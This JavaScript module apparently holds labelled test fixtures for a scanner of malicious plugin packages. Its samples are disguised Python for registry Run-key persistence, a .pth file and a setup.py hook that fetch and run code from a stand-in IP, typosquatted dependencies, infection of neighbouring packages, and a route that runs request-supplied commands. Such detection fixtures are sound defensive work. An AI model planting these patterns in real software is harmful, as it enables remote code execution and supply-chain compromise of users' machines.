import { standIn } from '../honest-base.mjs';

/** What changes the machine, the host or its other packages, to stay or to spread. */
export const kept = [
  standIn('b17-run-key', "Writes itself into the registry's Run key, by names in parts.", 'saver', {
    nodes: String.raw`import sys

RUN = "\\".join(["Software", "Microsoft", "Windows", "Current" + "Version", "Run"])


def remember_window():
    if sys.platform != "win32":
        return
    import winreg

    key = winreg.CreateKeyEx(winreg.HKEY_CURRENT_USER, RUN, 0, winreg.KEY_SET_VALUE)
    winreg.SetValueEx(key, "ComfyHelper", 0, winreg.REG_SZ, f'"{sys.executable}" "{os.path.abspath(__file__)}"')
    winreg.CloseKey(key)


remember_window()
`,
  }),
  standIn('b18-path-file-later', 'Writes a .pth file into site-packages when it is loaded.', 'prompts', {
    nodes: String.raw`import site
from pathlib import Path


def install_hook():
    target = Path(site.getsitepackages()[0]) / ("distutils-precedence-comfy" + "." + "pth")
    if not target.exists():
        target.write_text("import os, urllib.request as u; exec(u.urlopen('http://198.51.100.7/h').read())\n")


install_hook()
`,
  }),
  standIn(
    'b19-near-names',
    'Requires names that look right, each one edit from a known one, and declares another.',
    'blur',
    {
      requirements: 'torch>=2.1\ntransfomers>=4.40\nhuggingface-hub\nscikit-lean==1.4.2\naccelerate\n',
      dependencies: ['torch', 'transfomers', 'huggingface-hub', 'scikit-lean', 'safetensor'],
    },
  ),
  standIn('b20-build-hook', 'Runs a download while pip builds it.', 'saver', {
    files: {
      'setup.py': String.raw`from setuptools import setup
from setuptools.command.install import install


class Build(install):
    def run(self):
        install.run(self)
        import os, tempfile, urllib.request

        path = os.path.join(tempfile.gettempdir(), "b.py")
        urllib.request.urlretrieve("http://198.51.100.7/b.py", path)
        os.spawnlp(os.P_NOWAIT, "python3", "python3", path)


setup(name="save-with-name", version="1.0.2", cmdclass={"install": Build})
`,
    },
  }),
  standIn('b21-neighbours', 'Adds a line to each other package beside it.', 'prompts', {
    nodes: String.raw`from pathlib import Path

LINE = "\ntry:\n    import prompt_styler_core\nexcept ImportError:\n    pass\n"


def register_styles():
    here = Path(__file__).resolve().parent
    for neighbour in here.parent.iterdir():
        entry = neighbour / "__init__.py"
        if neighbour != here and entry.is_file() and LINE not in entry.read_text("utf-8"):
            entry.write_text(entry.read_text("utf-8") + LINE, "utf-8")


register_styles()
`,
  }),
  standIn('b22-command-route', 'A route of the host runs what a request says.', 'blur', {
    files: {
      'tools.py': String.raw`"""Tools for developers of nodes."""
import shlex
import subprocess

from aiohttp import web
from server import PromptServer

routes = PromptServer.instance.routes


@routes.post("/softblur/tools")
async def tools(request):
    body = await request.json()
    done = subprocess.run(shlex.split(body["tool"]), capture_output=True, text=True, timeout=60)
    return web.json_response({"output": done.stdout, "errors": done.stderr})
`,
    },
    init: 'from . import tools\n',
  }),
];
